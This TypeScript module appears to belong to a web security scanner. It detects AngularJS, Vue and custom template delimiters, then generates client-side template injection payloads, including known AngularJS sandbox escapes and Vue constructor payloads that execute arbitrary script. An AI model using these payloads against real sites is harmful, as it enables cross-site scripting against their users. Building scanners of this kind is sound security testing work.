import { matches } from './matches.ts';

const braces: Delimiters = ['{{', '}}'];
const angular = /\sng-(?:app|controller|bind|model|init)\b|\sdata-ng-|angular(?:\.min)?\.js/i;
const vue =
  /\sv-(?:if|for|bind|on|model|cloak|html|scope)\b|vue(?:\.global|\.iife|\.umd)?(?:\.prod|\.min)?\.js|data-v-app|\bnew Vue\(|\bcreateApp\(/i;

/** What a template has before and after an expression. */
export type Delimiters = readonly [start: string, end: string];

const startSymbol = /\bstartSymbol\(\s{0,5}["'`]([^"'`\s]{1,8})["'`]/g;
const endSymbol = /\bendSymbol\(\s{0,5}["'`]([^"'`\s]{1,8})["'`]/g;
const delimiters =
  /\bdelimiters\s{0,5}:\s{0,5}\[\s{0,5}["'`]([^"'`\s]{1,8})["'`]\s{0,5},\s{0,5}["'`]([^"'`\s]{1,8})["'`]/g;
/** What an engine of the page's own looks for, with an expression between: `/{{(.+?)}}/g`. */
const ownEngines: readonly (readonly [Delimiters, RegExp])[] = [
  [braces, /\{\\?\{(?:\\s[*+]?)?\(/],
  [['${', '}'], /\$\\?\{(?:\\s[*+]?)?\(/],
  [['<%=', '%>'], /<%=?(?:\\s[*+]?)?\(/],
];
const makesFunctions = /\bFunction\s{0,3}\(|\beval\s{0,3}\(/;
const maxDelimiters = 3;

/** Those that scripts set in place of braces, as AngularJS and Vue let them, and those of engines that a page has itself. */
export function delimitersIn(scripts: string): readonly Delimiters[] {
  const ends = matches(scripts, endSymbol);
  const ofAngular = matches(scripts, startSymbol).map((start, at): Delimiters => [start, ends[at] ?? '}}']);
  const ofVue = [...scripts.matchAll(delimiters)].map(([, start = '', end = '']): Delimiters => [start, end]);
  const engines = makesFunctions.test(scripts) ? ownEngines.filter(([, pattern]) => pattern.test(scripts)) : [];
  return [...ofAngular, ...ofVue, ...engines.map(([pair]) => pair)].slice(0, maxDelimiters);
}

/** Expressions for templates that the browser compiles, where the page has such ones. */
export function templatePayloads(html: string, own: readonly Delimiters[], code: string): readonly string[] {
  const expressions = [
    ...(angular.test(html) || vue.test(html) ? [`constructor.constructor('${code}(1)')()`] : []),
    ...(vue.test(html) ? [`_toDisplayString.constructor('${code}(1)')()`] : []),
    ...(angular.test(html) ? [...angularPayloads(`${code}(1)`)] : []),
  ];
  // With delimiters of their own templates leave braces as they are.
  const used: readonly Delimiters[] = own.length > 0 ? [...own, braces] : [braces];
  const ofFramework = used.flatMap(([start, end]) => expressions.map((expression) => `${start}${expression}${end}`));
  return [...new Set([...ofFramework, ...own.map(([start, end]) => `${start}${code}(1)${end}`)])];
}

/** Of AngularJS 1.2 to 1.5, whose expressions have a sandbox, and of any other version. */
function angularPayloads(call: string): readonly string[] {
  return [
    `$on.constructor('${call}')()`,
    `x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=${call}')`,
    `'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//')`,
    `'a'.constructor.prototype.charAt=[].join;$eval('x=${call}')`,
    `toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","${call}"].sort(toString.constructor)`,
    `a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'${call}')()`,
  ];
}
